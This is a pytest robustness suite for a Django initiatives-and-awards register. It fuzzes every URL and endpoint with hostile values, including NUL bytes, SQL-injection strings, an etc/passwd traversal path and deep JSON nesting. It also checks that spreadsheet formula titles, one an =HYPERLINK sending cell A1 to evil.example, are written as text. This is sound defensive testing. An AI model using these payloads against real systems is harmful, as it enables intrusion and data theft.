"""Finding 8 (issue 8): hostile input "still makes 500s: a NUL byte in a path or in ``q`` /
``organisation`` (``/awards/verify/%00/`` is anonymous), years 0000 and 9999 in ``submitted_month``,
the monthly workbook and ``blocs/?quarter=``. A title starting with ``=`` becomes a live formula in
the workbook."

The walk below visits EVERY URL pattern of the project (``get_resolver().url_patterns``,
recursively), fills each path converter and regex group with hostile values, adds hostile query
parameters for the known filters, and does so as an anonymous visitor, an author, an officer and a
staff administrator; then it POSTs hostile JSON and form bodies to every endpoint outside the
Django admin. Nothing may answer 5xx. It passes on SQLite and on PostgreSQL (which refuses NUL in
text: the NUL must never reach it)."""

import io
import re
import time
import zipfile
from urllib.parse import quote, urlencode

import pytest
from django.test import Client
from django.urls import URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook

from councils.models import User
from tests.conftest import draft_payload

pytestmark = pytest.mark.django_db

HOSTILE = [
    "%00",
    "a%00b",
    "0000-01",
    "9999-12",
    "9999-Q4",
    "0000-Q1",
    "0001-01-01",
    "9999-12-31",
    "-1",
    "0",
    "99999999999999999999",
    "1e999",
    "x" * 3000,
    quote("Sáng kiến ‮ 😀 𝔘"),
    quote("' OR 1=1 --"),
    "%ff%fe",
    "%ED%A0%80",  # a lone surrogate, UTF-8 encoded
    "..%2f..%2fetc%2fpasswd",
]
# the Django admin's per-model pages (110 patterns): the values that reach its lookups
HOSTILE_ADMIN = ["%00", "99999999999999999999", "-1", quote("' OR 1=1 --"), "%ED%A0%80"]
# the filters each endpoint reads (API.md, the OpenAPI schema and the pages' forms): each is sent
# alone with every hostile value, so no other parameter's 400 can hide it
LIST = ["page", "page_size"]
QUEUE = ["organisation", "state", "due", "waiting_days", "order"]
KNOWN_FILTERS = {
    "/api/v1/initiatives/": ["state", "organisation", "category", "q", "submitted_month", *QUEUE[2:], *LIST],
    "/api/v1/tasks/": [*QUEUE, *LIST],
    "/api/v1/audit/verify/": ["organisation"],
    "/api/v1/quotas/": ["month", "organisation", "award", *LIST],
    "/api/v1/certificates/": ["award", "initiative", "revoked", *LIST],
    "/api/v1/awards/monthly/{month}/": ["organisation", *LIST],
    "/api/v1/awards/monthly/{month}/suggestions/": ["organisation", *LIST],
    "/api/v1/reports/progress/": ["organisation", "phase", "programme", "until", "on", *LIST],
    "/api/v1/reports/monthly/{month}.xlsx": ["organisation"],
    "/api/v1/reports/blocs/": ["quarter", "organisation", "phase", "programme", *LIST],
    "/api/v1/initiatives/{pk}/history/": LIST,
    "/api/schema/": ["format", "lang"],
    "/tasks/": [*QUEUE, "page"],
    "/tasks/next/": [*QUEUE, "skip"],
    "/initiatives/": [*QUEUE, "q", "page"],
    "/awards/": ["month", "organisation"],
    "/reports/": ["organisation"],
    "/reports/monthly.xlsx": ["organisation", "month"],
    "/imports/": [],
    "/notifications/": ["page"],
    "/audit/": ["organisation", "initiative", "actor", "action", "since", "until", "order", "before", "after"],
    "/accounts/login/": ["next"],
    "/admin/initiatives/initiative/": ["q", "o", "p", "state", "created_at__gte", "_changelist_filters"],
    "/admin/audit/auditentry/": ["q", "o", "p", "at__year", "at__month"],
    "/admin/councils/organisation/": ["q", "o", "p"],
}
# what each filter gets: one value per parser that could break (text, month, quarter, day, number)
FILTER_VALUES = [
    "%00",
    "0000-01",
    "9999-12",
    "9999-Q4",
    "0001-01-01",
    "9999-12-31",
    "-1",
    "99999999999999999999",
    quote("' OR 1=1 --"),
    "x" * 3000,
    quote("²"),  # a digit to str.isdigit(), not to int()
]
# the OpenAPI schema is rebuilt on every request (~0.2 s): fewer values there
SLOW = {"/api/schema/": ["%00", quote("' OR 1=1 --"), "x" * 3000]}
# every URL outside the admin also gets every filter at once, set to these
EVERYWHERE = ["%00", "99999999999999999999"]
FILTERS = sorted({f for fs in KNOWN_FILTERS.values() for f in fs})
JSON_BODIES = [
    {},
    [],
    "x",
    None,
    1e308,
    {"title": "\u0000", "organisation": "\u0000", "category": "\u0000", "authors": [{"username": "\u0000"}]},
    {"title": "\ud800 lone surrogate", "summary": "\udfff", "decision": "\ud800", "comment": "\ud800"},
    {
        "title": '=HYPERLINK("http://x")',
        "category": ["technical"],
        "organisation": {"code": "XN1"},
        "authors": [{"username": "author1", "share_percent": "1e999999"}],
        "benefit_value_vnd": 99999999999999999999999999999,
        "applied_since": "9999-12-31",
        "confidential": "yes",
        "version": 99999999999999999999,
    },
    {
        "authors": [{"full_name": "x", "share_percent": 1e400}],
        "benefit_value_vnd": -1e400,
        "applied_since": "0000-01-01",
    },
    {"decision": "approve", "score": 99999999999999999999, "comment": "x" * 20000},
    {"organisation": "XN1", "initiatives": [99999999999999999999, -1, "1", None], "reason": "\u0000"},
    {"organisation": "' OR 1=1 --", "initiatives": list(range(600))},
    {"decision": {"confirm": 1}, "comment": ["x"], "score": {"a": 1}, "initiatives": {"a": 1}, "reason": [1]},
    {"decision": ["confirm"], "authors": [["author1", 100]], "organisation": ["XN1"], "title": {"vi": "x"}},
]
DEEP_JSON = "[" * 100_000 + "]" * 100_000
FORM_BODIES = [
    {"title": "a\x00b", "organisation": "\x00", "authors": "author1: 1e999999\n\x00: 5", "benefit_value_vnd": "9" * 40},
    {
        "decision": "\x00",
        "comment": "\x00",
        "score": "99999999999999999999",
        "month": "0000-01",
        "initiatives": ["9" * 30],
    },
    {"applied_since": "9999-12-31", "version": "99999999999999999999", "category": "' OR 1=1 --", "language": "\x00"},
    {"score": "²", "version": "²", "initiatives": ["²", "١٢"], "decision": "approve", "organisation": "NGANH"},
]


def _patterns(patterns, prefix=()):
    for p in patterns:
        if isinstance(p, URLResolver):
            yield from _patterns(p.url_patterns, (*prefix, p.pattern))
        else:
            yield (*prefix, p.pattern)


def _fill_part(pattern, value_for) -> str:
    text = str(pattern)
    if hasattr(pattern, "converters") and not text.startswith("^"):  # a route: "<int:pk>/"
        return re.sub(r"<(?:(\w+):)?(\w+)>", lambda m: value_for(m.group(2)), text)
    text = text.lstrip("^").rstrip("$")  # a regex: fill the named groups, keep the literal parts
    text = re.sub(r"\(\?P<(\w+)>(?:[^()]|\([^()]*\))*\)", lambda m: value_for(m.group(1)), text)
    return text.replace("/?", "/").replace("\\.", ".").replace("\\", "")


def urls(value_for) -> list[tuple[str, bool]]:
    """(path, is_admin) for every URL pattern of the project, filled by ``value_for(name)``."""
    out = []
    for parts in _patterns(get_resolver().url_patterns):
        path = "/" + "".join(_fill_part(p, value_for) for p in parts)
        out.append((path, path.startswith("/admin/")))
    return out


@pytest.fixture
def personas(users):
    people = {"anonymous": None, "author": users["author1"], "officer": users["officer_a"]}
    admin = User.objects.get(username="admin_n")
    assert admin.is_staff and not admin.is_superuser
    people["staff admin"] = admin
    clients = {}
    for name, user in people.items():
        c = Client(raise_request_exception=False)
        if user is not None:
            c.force_login(user)
        clients[name] = c
    return clients


def _resolves_to_the_same_view(path, pattern_path) -> bool:
    """Whether a filled path reaches the pattern it was made from (a value the converter refuses,
    e.g. letters in ``<int:pk>``, only ever meets the resolver's 404: one such request is enough)."""
    from urllib.parse import unquote

    from django.urls import Resolver404, resolve

    try:
        return resolve(unquote(path)).route == resolve(unquote(pattern_path)).route
    except (Resolver404, UnicodeDecodeError, ValueError):
        return False


# one test per persona, so that pytest-xdist can run the four walks side by side
@pytest.mark.parametrize("who", ["anonymous", "author", "officer", "staff admin"])
def test_every_url_answers_hostile_input_without_a_5xx(world, personas, insider, who):
    valid = {
        "pk": str(world["secret"]),
        "name": "submit",
        "format": "json",
        "serial": world["serial"],
        "month": f"{world['month']:%Y-%m}",
        "object_id": str(world["secret"]),
        "content_type_id": "1",
        "app_label": "initiatives",
        "parent_id": "1",
        "id": "1",
        "url": "x",
        "path": "x",
    }
    started = time.monotonic()
    failures, requests = [], 0

    def check(client, who, method, path, **kwargs):
        nonlocal requests
        requests += 1
        r = getattr(client, method)(path, **kwargs)
        if r.status_code >= 500:
            failures.append(f"{who} {method.upper()} {path[:120]} {str(kwargs.get('data'))[:80]} → {r.status_code}")
        return r

    good = urls(lambda name: valid.get(name, "1"))
    hostile_paths = []  # (path, is_admin): every parameterised pattern, each hostile value that reaches its view
    for value in HOSTILE:
        for (path, is_admin), (good_path, _admin) in zip(urls(lambda name, v=value: v), good, strict=True):
            if path == good_path or (is_admin and value not in HOSTILE_ADMIN):
                continue
            if _resolves_to_the_same_view(path, good_path) or value == "%00":
                hostile_paths.append((path, is_admin))
    targeted = []
    for template, params in KNOWN_FILTERS.items():
        path = template.format(**valid)
        for param in params:
            targeted += [f"{path}?{param}={value}" for value in SLOW.get(template, FILTER_VALUES)]
    everywhere = ["?" + urlencode({k: v for k in FILTERS}, safe="%") for v in EVERYWHERE]
    insider.tried(f"{len(good)} URL patterns, every path parameter filled with {len(HOSTILE)} hostile values")
    insider.tried(f"each known filter alone with {len(FILTER_VALUES)} hostile values ({len(targeted)} URLs)")
    insider.tried(f"every filter at once on every URL outside the admin, set to {', '.join(EVERYWHERE)}")
    insider.tried("hostile JSON (NUL, lone surrogates, 1e999999, 10^20, 100,000-deep nesting) and form bodies")
    insider.tried(
        f"as {who} (one of an anonymous visitor, an author, an officer and a staff administrator): every path "
        "and every URL's filters at once for all four; each filter alone as the officer and the staff "
        "administrator (the parsers are the same for everyone: those two see the most rows); bodies as the "
        "author and the staff administrator (an anonymous body meets the sign-in first, the officer's the "
        "author's checks)"
    )
    filters_alone = {"officer", "staff admin"}
    bodies = {"author", "staff admin"}
    client = personas[who]
    staff = who == "staff admin"
    for path, is_admin in hostile_paths:
        if is_admin and not staff and "%00" not in path:
            continue  # the admin sends everyone else to its login page before reading the path
        check(client, who, "get", path)
    for url in targeted if who in filters_alone else []:
        if url.startswith("/admin/") and not staff:
            continue
        check(client, who, "get", url)
    for path, is_admin in good:
        check(client, who, "get", path)
        if is_admin:
            continue
        for query in everywhere if path not in SLOW else []:
            check(client, who, "get", path + query)
        if who not in bodies:
            continue
        if path.startswith("/api/"):
            for body in JSON_BODIES:
                check(client, who, "post", path, data=body, content_type="application/json")
            check(client, who, "post", path, data=DEEP_JSON, content_type="application/json")
            check(client, who, "patch", path, data=JSON_BODIES[7], content_type="application/json")
        else:
            for body in FORM_BODIES:
                check(client, who, "post", path, data=body)
    elapsed = time.monotonic() - started
    print(f"\nURL walk: {requests} requests in {elapsed:.1f} s, {len(failures)} answered 5xx")
    assert failures == [], "\n".join(failures[:60]) + f"\n… {len(failures)} in all"
    insider.held(f"{requests} hostile requests, none answered 5xx ({elapsed:.0f} s)")


@pytest.mark.parametrize(
    "url,param",
    [
        ("/awards/verify/%00/", None),
        ("/api/v1/initiatives/?q=%00", "q"),
        ("/api/v1/initiatives/?organisation=X%00", "organisation"),
        ("/api/v1/reports/progress/?organisation=%00", "organisation"),
    ],
)
def test_a_nul_byte_is_a_clear_400_naming_where_it_was(personas, users, url, param, insider):
    insider.tried(f"GET {url}")
    client = personas["anonymous"] if url.startswith("/awards/") else personas["officer"]
    r = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert r.status_code == 400
    if url.startswith("/api/"):
        assert r.json() == {param: ["must not contain a NUL character"]}
    else:
        assert "NUL" in r.content.decode()
    insider.held("400, the NUL never reaches the database")


def test_a_nul_byte_in_a_json_body_is_refused_where_it_is(personas, insider):
    insider.tried("POST a draft whose author's username holds a NUL")
    body = draft_payload(authors=[{"username": "author1\u0000", "share_percent": 100}])
    r = personas["author"].post(
        "/api/v1/initiatives/", data=body, content_type="application/json", HTTP_ACCEPT_LANGUAGE="en"
    )
    assert r.status_code == 400
    assert r.json() == {"authors[0].username": ["must not contain a NUL character"]}
    insider.held("400 naming the JSON path of the NUL")


@pytest.mark.parametrize(
    "url,param",
    [
        ("/api/v1/initiatives/?submitted_month=0000-01", "submitted_month"),
        ("/api/v1/initiatives/?submitted_month=9999-12", "submitted_month"),
        ("/api/v1/reports/monthly/0000-01.xlsx?organisation=TCTA", "month"),
        ("/api/v1/reports/monthly/9999-12.xlsx?organisation=TCTA", "month"),
        ("/api/v1/reports/blocs/?quarter=9999-Q4", "quarter"),
        ("/api/v1/reports/blocs/?quarter=0000-Q1", "quarter"),
        ("/api/v1/reports/progress/?until=9999-12-31", "until"),
        ("/api/v1/reports/progress/?on=0001-01-01", "on"),
        ("/api/v1/awards/monthly/9999-12/?organisation=NGANH", "month"),
        ("/api/v1/quotas/?month=0000-01", "month"),
    ],
)
def test_out_of_range_dates_are_a_400_naming_the_parameter(personas, url, param, insider):
    insider.tried(f"GET {url} as an officer")
    r = personas["officer"].get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert r.status_code == 400, r.content
    assert list(r.json()) == [param], r.json()
    assert "1900" in r.json()[param][0] and "2999" in r.json()[param][0]
    insider.held("a 400 naming the parameter and the years accepted")


def test_a_pasted_paragraph_is_not_a_search(personas, insider, users, client):
    paragraph = " ".join(["cải tiến quy trình vận hành"] * 20)  # 100 words, 560 characters
    insider.tried("search the register with a pasted 100-word paragraph: API, page, admin list")
    r = personas["officer"].get("/api/v1/initiatives/", {"q": paragraph}, HTTP_ACCEPT_LANGUAGE="en")
    assert r.status_code == 400 and list(r.json()) == ["q"] and "100" in r.json()["q"][0], r.content
    eleven = " ".join(f"tu{i}" for i in range(11))
    r = personas["officer"].get("/api/v1/initiatives/", {"q": eleven}, HTTP_ACCEPT_LANGUAGE="en")
    assert r.status_code == 400 and "10" in r.json()["q"][0], r.content
    assert personas["officer"].get("/api/v1/initiatives/", {"q": "cải tiến quy trình"}).status_code == 200
    client.force_login(users["officer_a"])
    r = client.get("/initiatives/", {"q": paragraph})
    assert r.status_code == 400 and "100" in r.content.decode()
    assert personas["staff admin"].get("/admin/initiatives/initiative/", {"q": paragraph}).status_code == 200
    insider.held("400 naming q and the limit (10 words, 100 characters); the admin looks for the first words only")


def test_huge_ids_in_paths_are_404_not_500(personas, world, insider):
    for url in (
        "/initiatives/99999999999999999999/",
        "/api/v1/initiatives/99999999999999999999/",
        "/api/v1/initiatives/99999999999999999999/history/",
        "/admin/initiatives/initiative/99999999999999999999/change/",
    ):
        insider.tried(f"GET {url}")
        assert personas["staff admin"].get(url).status_code in (302, 404), url
    insider.held("an id beyond 64 bits is simply not found")


FORMULA_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+SUM(1,2) cải tiến quy trình",
    "-2+3 cải tiến quy trình vận hành",
    "@SUM(1,2) cải tiến quy trình",
    "\t=1+1 cải tiến quy trình vận hành",
    "\r=1+1 cải tiến quy trình vận hành",
]


def test_workbook_cells_are_text_never_formulas(api, users, insider):
    from reports.workbook import monthly_workbook

    insider.tried("drafts titled =HYPERLINK(…), +SUM, -2+3, @SUM, TAB= and CR= submitted, then the monthly workbook")
    ids = []
    for title in FORMULA_TITLES:
        r = api(users["author1"]).post("/api/v1/initiatives/", draft_payload(title=title), format="json")
        assert r.status_code == 201, r.content
        ids.append(r.json()["id"])
        assert api(users["author1"]).post(f"/api/v1/initiatives/{ids[-1]}/actions/submit/", {}, format="json").status_code == 200  # fmt: skip
    from councils.models import Organisation

    today = timezone.localdate()
    content = monthly_workbook(organisation=Organisation.objects.get(code="TCTA"), year=today.year, month=today.month)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    wb = load_workbook(io.BytesIO(content))
    titles = [c.value for c in wb.worksheets[1]["B"][1:]]
    assert sorted(titles) == sorted(t.strip() for t in FORMULA_TITLES)
    for row in wb.worksheets[1].iter_rows(min_row=2):
        assert row[1].data_type == "s", row[1].value
    insider.held("every string cell starting with = + - @ TAB or CR is written as text (no <f> element)")


def test_the_demo_register_holds_no_formula():
    from workflow.demo.make_register import OUT

    with zipfile.ZipFile(OUT) as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
